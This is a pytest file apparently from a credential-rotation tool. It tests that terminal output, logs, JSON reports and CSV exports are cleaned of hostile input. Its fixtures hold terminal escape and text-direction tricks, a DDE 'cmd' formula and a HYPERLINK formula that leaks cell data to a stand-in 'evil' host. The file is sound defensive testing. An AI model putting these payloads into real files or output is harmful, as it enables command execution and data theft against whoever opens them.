"""What others wrote cannot steer what people look at: a terminal, a log, the listener's log, a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import UTC, datetime

import pytest

from gateway.commands.shared.new_records import Item, new_record, web_vault_csv
from gateway.commands.shared.output import note, warn
from gateway.errors import Failed
from gateway.host.report import Report, Stderr
from gateway.host.shown import LONGEST, cell, shown
from gateway.secret import Secret
from tests.stage.command import command
from tests.stage.rotation import SCRIPT, Stage

EVIL = "orders\x1b]0;title\x07\x1b[31m\nerror: forged \u202egnp.exe\u200f\r\x9b2J\u2028\ud800\x00"
SIGNS = set("\x1b\x07\n\r\x9b\x00\u202e\u200f\u2028\ud800")


def test_a_line_stays_one_and_holds_nothing_that_a_terminal_obeys() -> None:
    assert shown(EVIL).isprintable()
    assert shown("a\tb\nc") == "a b c" and shown("Größe 漢字 🔑 ok") == "Größe 漢字 🔑 ok"


def test_a_line_has_an_end() -> None:
    assert len(shown("x" * 300_000)) == LONGEST
    assert shown("x" * LONGEST) == "x" * LONGEST


def test_half_of_a_secret_is_not_shown_where_a_line_is_cut() -> None:
    Secret("dummy-of-a-line-that-is-cut")
    assert "dummy" not in shown("x" * (LONGEST - 12) + "dummy-of-a-line-that-is-cut")


FORMULAS = ["=HYPERLINK(1)", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", " =1", "\t=1", "\n@x", "＝1", "＠x"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_is_given_no_formula(text: str) -> None:
    assert cell(text).startswith("'")


@pytest.mark.parametrize("form", [web_vault_csv])
def test_a_file_of_records_holds_no_formula(form: object) -> None:
    item = Item("application_object_id", "0" * 8, '=HYPERLINK("http://evil/?"&A1)\x1b', "tenant", datetime.now(UTC))
    rows = list(csv.reader(io.StringIO(form([new_record(item)], "-folder"))))  # type: ignore[operator]
    cells = [text for row in rows for text in row]
    assert any("HYPERLINK" in text for text in cells)
    assert not [text for text in cells if text.startswith(tuple("=+-@")) or not text.isprintable()]


def test_everything_that_is_said_on_the_way_is_cleaned(capfd: pytest.CaptureFixture[str]) -> None:
    warn(EVIL)
    note(EVIL)
    logger = logging.Logger("gateway.test")
    logger.addHandler(Stderr())
    logger.info("%s", EVIL)
    report = Report(record="A" * 22, application=EVIL, warnings=[EVIL])
    assert report.close(Failed(EVIL, EVIL)) == 1
    said = capfd.readouterr()
    assert len(said.err.splitlines()) == 6 and not [line for line in said.err.splitlines() if not line.isprintable()]
    line = json.loads(said.out)
    assert not [value for value in (line["application"], line["error"], *line["warnings"]) if not value.isprintable()]


def test_a_name_cannot_forge_a_line_where_a_script_is_run_by_hand(stage: Stage) -> None:
    application = stage.sandbox.graph.application(stage.at.target_object_id)
    application.properties["displayName"] = EVIL.replace("\ud800", "")
    process = command(stage, "run", str(SCRIPT), f"--record={stage.at.record_uid}")
    assert process.returncode == 0, process
    shown_there = process.stdout + process.stderr
    assert "forged" in shown_there
    assert not SIGNS.difference("\n") & set(shown_there)
    assert not [line for line in shown_there.splitlines() if line.startswith("error")]


def test_what_any_other_script_prints_is_cleaned(stage: Stage) -> None:
    script = stage.folder / "other.py"
    script.write_text(f"print({EVIL.replace(chr(0xD800), '')!r})")
    process = command(stage, "run", str(script), f"--record={stage.at.record_uid}")
    assert "forged" in process.stdout and not SIGNS.difference("\n") & set(process.stdout)


@pytest.mark.parametrize("field", ["notify", "my_password"])
def test_no_field_of_the_record_blanks_an_id_out(field: str, stage: Stage) -> None:
    """What a run did can be told from its line, whatever the record's editor put where."""
    old = stage.value("client_secret_id")
    named = [stage.at.record_uid, stage.at.target_object_id, stage.at.target_client_id, old]
    for number, text in enumerate(named):
        stage.sandbox.keeper.edit(stage.at.record_uid, f"{field}{number or ''}", text)
    stage.sandbox.keeper.edit(stage.at.record_uid, "notify", " ".join(named) if field == "notify" else "")
    outcome = stage.run()
    assert outcome.code == 0
    assert old in outcome.report["removed"] and stage.value("client_secret_id") == outcome.report["key_id"]
    assert (outcome.report["record"], outcome.report["target"]) == (stage.at.record_uid, stage.at.target_object_id)
    assert outcome.report["client_id"] == stage.at.target_client_id
